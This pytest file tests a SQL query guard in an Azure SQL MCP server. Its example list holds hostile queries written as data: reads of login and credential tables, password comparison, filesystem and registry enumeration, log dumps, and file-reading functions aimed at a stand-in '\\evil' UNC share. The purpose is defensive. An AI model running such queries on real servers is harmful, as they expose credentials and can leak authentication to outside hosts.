"""read_data refuses what a statement may not reach (issue 15's examples), saying what was
found and what is allowed; an operator opens other databases with allowed_databases."""

import asyncio
from typing import Any

import pytest
from fastmcp import Client

from azsql_mcp.testing.pytest_plugin import DRIVERS
from tds_test_server.editions import Edition

ALLOWED = "Allowed here: one SELECT statement"

# Each example named in issue 15, with what the refusal must name.
EXAMPLES = [
    ("SELECT name FROM master.sys.sql_logins", "names the database master"),
    ("SELECT * FROM msdb.dbo.sysjobs", "names the database msdb"),
    ("SELECT * FROM OtherDb..Secrets", "names the database OtherDb"),
    ("SELECT * FROM tempdb.sys.objects", "names the database tempdb"),
    ("SELECT * FROM ##t", "global temporary table"),
    ("SELECT * FROM SalesLT.Customer WITH (TABLOCK, HOLDLOCK)", "table hint TABLOCK"),
    ("SELECT * FROM SalesLT.Customer WITH (SERIALIZABLE, PAGLOCK)", "table hint SERIALIZABLE"),
    ("SELECT * FROM SalesLT.Customer WITH (REPEATABLEREAD)", "table hint REPEATABLEREAD"),
    ("SELECT * FROM SalesLT.Customer OPTION (MAXRECURSION 0)", "MAXRECURSION 0"),
    ("SELECT * FROM SalesLT.Customer OPTION (MAXDOP 8)", "MAXDOP 8"),
    ("SELECT * FROM SalesLT.Customer OPTION (MIN_GRANT_PERCENT = 50)", "MIN_GRANT_PERCENT"),
    ("SELECT * FROM SalesLT.Customer OPTION (QUERYTRACEON 8649)", "QUERYTRACEON"),
    ("SELECT * FROM sys.fn_get_audit_file('\\\\evil\\s\\*', NULL, NULL)", "fn_get_audit_file"),
    (
        "SELECT * FROM sys.fn_xe_file_target_read_file('\\\\evil\\s\\*.xel', NULL, NULL, NULL)",
        "fn_xe_file_target_read_file",
    ),
    ("SELECT * FROM sys.fn_trace_gettable('\\\\evil\\s\\t.trc', 1)", "fn_trace_gettable"),
    ("SELECT * FROM sys.dm_os_file_exists('\\\\evil\\s\\x')", "dm_os_file_exists"),
    ("SELECT * FROM sys.dm_os_enumerate_filesystem('C:\\', '*')", "dm_os_enumerate_filesystem"),
    ("SELECT * FROM sys.dm_server_registry", "dm_server_registry"),
    ("SELECT * FROM sys.fn_dblog(NULL, NULL)", "fn_dblog"),
    ("SELECT * FROM sys.fn_dump_dblog(NULL, NULL, N'DISK', 1, N'x')", "fn_dump_dblog"),
    ("SELECT PWDCOMPARE(N'x', 0x01) AS hit", "PWDCOMPARE"),
    ("SELECT name FROM sys.sql_logins", "sql_logins"),
    ("SELECT * FROM sys.credentials", "credentials"),
    ("SELECT RAND(12345) AS r", "RAND(seed)"),
    # found by the red-team round of the guard: hints without WITH, a type of another
    # database, a bracket-quoted rowset function
    ("SELECT * FROM SalesLT.Customer (NOLOCK, SERIALIZABLE)", "table hint SERIALIZABLE"),
    ("SELECT * FROM SalesLT.Customer AS c (TABLOCK, NOLOCK)", "table hint TABLOCK"),
    ("SELECT OtherDb.dbo.Secret::Parse(N'1') AS v", "names the database OtherDb"),
    ("SELECT * FROM [OPENQUERY](srv, 'SELECT 1')", "OPENQUERY reaches data outside"),
]


async def call(client: Client[Any], query: str) -> Any:
    return await client.call_tool("read_data", {"query": query}, raise_on_error=False)


@pytest.mark.parametrize(
    ("sql", "found"), EXAMPLES, ids=[f"ex{i:02d}" for i in range(len(EXAMPLES))]
)
async def test_issue_examples_are_refused_saying_what_and_what_is_allowed(mcp_client, sql, found):
    result = await call(mcp_client, sql)
    assert result.is_error
    text = result.content[0].text
    assert found in text
    assert ALLOWED in text


async def test_own_database_by_three_part_name_runs(mcp_client):
    result = await call(
        mcp_client, "SELECT TOP 1 CustomerID FROM AdventureWorksLT.SalesLT.Customer"
    )
    assert not result.is_error, result.content
    assert result.structured_content["rows"]


async def test_allowed_databases_opens_a_database(make_azsql_server):
    app = make_azsql_server(config={"security": {"allowed_databases": ["OtherDb"]}})
    async with Client(app) as client:
        result = await call(client, "SELECT * FROM OtherDb.dbo.Secrets")
        # Not refused: the database answers (the test server has no OtherDb).
        assert ALLOWED not in result.content[0].text
        # this database's names are no guess for another's
        near_here = await call(client, "SELECT * FROM OtherDb.SalesLT.Custmer")
        assert "Invalid object name" in near_here.content[0].text
        assert "Did you mean" not in near_here.content[0].text
        assert (
            "names the database master"
            in (await call(client, "SELECT * FROM master.sys.objects")).content[0].text
        )


async def _read_once_learned(client: Client[Any], query: str) -> Any:
    """read_data of `query` once the source's health probe has learned that the server's
    collation ignores case: until then (and under a case-sensitive one, always) database
    names are compared as spelled."""
    for _ in range(50):
        result = await call(client, query)
        if ALLOWED not in result.content[0].text:
            return result
        await asyncio.sleep(0.1)
    return result


@pytest.mark.parametrize("azsql_driver", DRIVERS, indirect=True)
@pytest.mark.parametrize(
    ("collation", "opens"),
    [
        ("SQL_Latin1_General_CP1_CI_AS", True),
        ("Latin1_General_CS_AS", False),
        ("SQL_Latin1_General_CP850_BIN2", False),
    ],
)
async def test_database_names_compare_as_the_server_collation_does(
    make_azsql_server, monkeypatch, collation, opens
):
    # Database names take the server's collation: under a case-sensitive one [OTHERDB]
    # is another database than the OtherDb the operator opened, and [ADVENTUREWORKSLT]
    # another than the source's own.
    reported = Edition.server_property
    monkeypatch.setattr(
        Edition,
        "server_property",
        lambda self, name: collation if name.lower() == "collation" else reported(self, name),
    )
    app = make_azsql_server(config={"security": {"allowed_databases": ["OtherDb"]}})
    async with Client(app) as client:
        for query, database in [
            ("SELECT * FROM OTHERDB.dbo.Secrets", "OTHERDB"),
            ("SELECT TOP 1 CustomerID FROM ADVENTUREWORKSLT.SalesLT.Customer", "ADVENTURE"),
        ]:
            read = _read_once_learned if opens else call
            text = (await read(client, query)).content[0].text
            assert (ALLOWED not in text) is opens, text
            if not opens:
                assert f"names the database {database}" in text
                assert "compares database names as spelled" in text
        # spelled as configured, the database opens under every collation
        text = (await call(client, "SELECT * FROM OtherDb.dbo.Secrets")).content[0].text
        assert ALLOWED not in text


async def test_allowed_hints_run(mcp_client):
    result = await call(
        mcp_client, "SELECT TOP 2 CustomerID FROM SalesLT.Customer WITH (NOLOCK) ORDER BY 1"
    )
    assert not result.is_error, result.content
    assert len(result.structured_content["rows"]) == 2
    # the older form without WITH takes one hint; several are refused with the WITH form
    query = "SELECT TOP 2 CustomerID FROM SalesLT.Customer (NOLOCK) ORDER BY 1"
    assert ALLOWED not in (await call(mcp_client, query)).content[0].text
    query = "SELECT TOP 2 CustomerID FROM SalesLT.Customer (NOLOCK, READPAST) ORDER BY 1"
    assert "Write them with WITH" in (await call(mcp_client, query)).content[0].text
    # The test server runs no query hints; what matters here is that the guard passes them.
    result = await call(mcp_client, "SELECT 1 AS one OPTION (RECOMPILE, MAXRECURSION 10)")
    assert ALLOWED not in result.content[0].text


async def test_running_queries_stay_available_to_the_admin_tool(mcp_client):
    result = await mcp_client.call_tool("list_long_running_queries", {}, raise_on_error=False)
    assert not result.is_error, result.content


async def test_a_caller_without_client_auth_reads_server_state_like_the_admin_tool(mcp_client):
    # No client authentication (stdio, mode "none"): every tool is visible, the admin
    # tool included, so read_data reads what list_long_running_queries shows. A token
    # without sql.admin is refused (tests/e2e/test_server_state_scope.py).
    query = (
        "SELECT t.text FROM sys.dm_exec_requests AS r "
        "CROSS APPLY sys.dm_exec_sql_text(r.sql_handle) AS t"
    )
    result = await call(mcp_client, query)
    assert not result.is_error, result.content


# The xml data-type methods on a column, as analysts write them: sqlglot reads
# `p.CatalogDescription.value(...)` as a function of a database p.
XML_READS = [
    "SELECT p.ProductModelID,"
    " p.CatalogDescription.value('(/*:ProductDescription/@ProductModelID)[1]', 'int') AS id"
    " FROM SalesLT.ProductModel AS p"
    " WHERE p.CatalogDescription.exist('/*:ProductDescription') = 1",
    "SELECT n.c.value('@ProductModelID', 'int') AS id, n.c.query('.') AS fragment"
    " FROM SalesLT.ProductModel AS p"
    " CROSS APPLY p.CatalogDescription.nodes('/*:ProductDescription') AS n(c)",
]


@pytest.mark.parametrize("query", XML_READS, ids=["value-exist", "nodes-apply"])
async def test_xml_methods_on_a_column_are_not_refused(mcp_client, query):
    result = await call(mcp_client, query)
    text = result.content[0].text
    assert ALLOWED not in text
    # The guard passed it on: the test server runs no XQuery, and answers as a database
    # does (a syntax error, or "not supported by the azsql-mcp TDS test server").
    assert not result.is_error or "(SQL Server error " in text, text
